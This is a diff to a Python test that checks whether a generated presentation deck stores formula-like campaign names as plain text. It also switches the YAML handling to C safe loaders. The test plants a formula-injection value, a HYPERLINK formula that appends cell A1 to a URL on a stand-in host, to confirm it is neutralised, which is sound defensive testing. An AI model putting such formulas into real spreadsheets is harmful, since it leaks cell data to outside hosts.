@@ -53,12 +53,14 @@ def test_chart_workbooks_hold_formula_like_text_as_text(tmp_path: Path) -> None:
 def test_a_campaign_id_starting_with_equals_is_text_in_the_deck(
     sample_copy: Workspace, tmp_path: Path
 ) -> None:
-    data = yaml.safe_load(sample_copy.config_path.read_text(encoding="utf-8"))
+    data = yaml.load(sample_copy.config_path.read_text(encoding="utf-8"), Loader=yaml.CSafeLoader)
     campaign = data["campaigns"].pop("exec-1on1-2026h2")
     hostile = '=HYPERLINK("https://x.invalid/?"&A1,"x")'
     campaign["title"] = hostile  # the chart names campaigns by their titles
     data["campaigns"][hostile] = campaign
-    sample_copy.config_path.write_text(yaml.safe_dump(data, allow_unicode=True), "utf-8")
+    sample_copy.config_path.write_text(
+        yaml.dump(data, allow_unicode=True, Dumper=yaml.CSafeDumper), "utf-8"
+    )
     deck = tmp_path / "deck.pptx"
     Cli(sample_copy)("review", "--out", str(deck))
     cells = embedded_cells(deck)
